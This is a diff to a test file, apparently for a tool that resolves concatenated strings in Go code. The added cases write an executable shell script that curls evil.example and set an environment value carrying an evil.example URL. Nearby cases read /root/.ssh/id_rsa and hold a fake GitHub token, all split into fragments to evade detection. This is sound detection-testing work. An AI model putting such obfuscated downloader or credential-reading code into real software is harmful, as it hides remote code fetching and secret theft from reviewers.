@@ -24,6 +24,12 @@ test.each([
   ['', 'os.ReadFile("/root/.s"+"sh/id_rsa")', '/root/.ssh/id_rsa'],
   [
     '',
+    'os.WriteFile("x", []byte("#!/bin/sh\\n" + "cu" + "rl ht" + "tp://evil.example/x"), 0o755)',
+    '#!/bin/sh\ncurl http://evil.example/x',
+  ],
+  ['', 'os.Setenv("A", "\\nht" + "tp://evil.example/y")', '\nhttp://evil.example/y'],
+  [
+    '',
     't := "ghp_" + "0123456789abcdef0123456789abcdef0123"; os.Setenv("A", t)',
     'ghp_0123456789abcdef0123456789abcdef0123',
   ],
